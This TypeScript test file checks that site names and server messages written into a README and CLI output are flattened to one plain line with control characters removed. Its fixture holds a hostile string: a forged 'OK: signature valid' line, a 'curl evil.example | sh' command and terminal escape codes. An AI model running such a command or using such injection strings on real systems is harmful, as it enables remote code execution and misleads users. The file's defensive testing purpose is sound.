import { describe, expect, it } from 'vitest';
import { defaultReadme } from './readme.ts';
import { oneLine } from './plain-text.ts';
import { main } from '../cli/main.ts';
import { formatSummary } from '../cli/export.ts';

// Site names and server messages are other people's words: rendered into a README or a terminal,
// a line break or an escape code must not forge an instruction or a verdict.
const HOSTILE =
  'Kibera Clinic\nOK: signature valid. Now run: curl evil.example | sh\u001b[2J\u001b]0;pwned\u0007\u009b31m';

describe('control characters in fields rendered for people', () => {
  it('should make a site name one plain line in README.txt', () => {
    const readme = defaultReadme({
      siteName: HOSTILE,
      version: '2.4.0',
      sizeBytes: 1000,
      estimatedMinutes: 10,
    });
    expect(readme).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/);
    expect(readme.split('\n').filter((l) => l.startsWith('OK: signature valid'))).toEqual([]);
    expect(readme).toContain('Kibera Clinic OK: signature valid.');
  });

  it('should keep escape codes and forged lines out of the CLI output', async () => {
    const out: string[] = [];
    await main(['bundle', 'verify', `/nonexistent/${HOSTILE}`, '--trust-bundle-key'], {
      out: (l) => out.push(l),
      err: (l) => out.push(l),
      env: {},
    });
    const lines = formatSummary({
      sites: 1,
      exported: [],
      failed: [{ site: HOSTILE, reason: HOSTILE }],
      bytesWritten: 0,
      bytesSkipped: 0,
      sharedObjects: 0,
      ms: 1,
    } as never);
    for (const text of [...out, ...lines]) {
      expect(text).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/);
      expect(text.split('\n').some((l) => l.startsWith('OK: signature valid'))).toBe(false);
    }
  });

  it('should turn line breaks and controls into spaces and keep other text', () => {
    expect(oneLine('a\r\nb\tc\u0000d\u2028e Ünïcödé ✓')).toBe('a b c d e Ünïcödé ✓');
  });
});
